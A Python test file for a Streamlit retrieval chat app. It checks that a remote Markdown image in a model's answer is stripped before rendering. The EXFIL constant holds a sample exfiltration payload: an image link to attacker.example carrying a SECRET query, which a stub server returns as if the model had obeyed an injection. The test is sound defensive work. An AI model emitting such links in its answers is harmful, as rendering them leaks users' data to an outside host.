"""The chat page renders model output through the safe Markdown filter: a model that writes
a remote image (an exfiltration channel once rendered) is shown without it. Real local
OpenAI-compatible server, real app under AppTest."""

from __future__ import annotations

import streamlit as st
from streamlit.testing.v1 import AppTest

from tests.ui.conftest import APP
from tests.workbench.openai_server import ChatServer, Say, task_of
from workbench.ui import state

EXFIL = "![x](http://attacker.example/leak?q=SECRET)"


def test_a_remote_image_in_the_model_answer_is_not_rendered(ui_copy, monkeypatch):
    def obeying(payload):
        return Say("YES") if task_of(payload) == "judge" else Say(f"父子块 [1] {EXFIL}")

    with ChatServer(obeying) as srv:
        monkeypatch.setenv("OPENAI_BASE_URL", srv.base_url)
        monkeypatch.setenv("WIKIRAG_LLM_MODEL", "test-model")
        st.cache_resource.clear()  # the LLM client is cached per config, not per environment
        try:
            at = AppTest.from_file(str(APP), default_timeout=60)
            at.run()
            at.switch_page("views/chat.py").run()
            at.chat_input(key=state.CHAT_INPUT).set_value("父子块检索的数据结构是什么？").run()
        finally:
            st.cache_resource.clear()
        assert srv.tasks(), "the page did not call the LLM"
    assert not at.exception
    shown = "\n".join(str(m.value) for m in at.markdown)
    assert "父子块 [\\[1\\]](knowledge_base?node=" in shown  # the marker links its chapter
    assert "attacker.example" not in shown and "![" not in shown
